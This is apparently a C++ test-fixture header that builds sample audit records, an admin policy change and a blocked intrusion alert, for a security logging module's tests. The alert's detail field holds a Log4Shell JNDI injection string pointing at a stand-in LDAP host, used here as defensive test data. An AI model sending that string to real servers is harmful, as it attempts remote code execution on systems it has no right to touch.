// Records for the module's own tests.
#pragma once

#include <string>

#include "audit/record/record.hpp"

namespace menshen::audit {

inline Record sample_alert(std::uint64_t sequence, std::string source = "sensord") {
  Record record;
  record.time = 1'795'421'730'000'000'000 + static_cast<WallTime>(sequence) * 1'000'000;
  record.monotonic = static_cast<MonotonicTime>(sequence) * 1'000'000;
  record.boot.fill(0x42);
  record.source = std::move(source);
  record.epoch = 1;
  record.sequence = sequence;
  record.kind = Kind::alert;
  record.severity = Severity::high;
  record.outcome = Outcome::blocked;
  record.action = "rule.match";
  record.domain_src = "finance";
  record.domain_dst = "portal";
  record.src = IpAddr::parse("10.10.0.5");
  record.dst = IpAddr::parse("10.30.0.8");
  record.sport = 40'000;
  record.dport = 80;
  record.proto = 6;
  record.rule = RuleId{1, 2'034'647, 3};
  record.message = "Log4Shell 利用尝试";
  record.detail =
      R"({"http":{"method":"GET","host":"portal.gov.example",)"
      R"("url":"/${jndi:ldap://203.0.113.9/a}","user_agent":"curl/7.88.1","status":0},"flow_id":)" +
      std::to_string(sequence * 7919) + R"(,"payload":"R0VUIC8gSFRUUC8xLjENCkhvc3Q6IA=="})";
  return record;
}

inline Record sample_admin(std::uint64_t sequence) {
  Record record;
  record.time = 1'795'421'730'000'000'000 + static_cast<WallTime>(sequence) * 1'000'000;
  record.source = "policyd";
  record.epoch = 1;
  record.sequence = sequence;
  record.kind = Kind::admin;
  record.outcome = Outcome::success;
  record.subject = "li.wei";
  record.action = "policy.apply";
  record.object = "demo.yaml";
  record.policy_line = "demo.yaml:14";
  return record;
}

}  // namespace menshen::audit
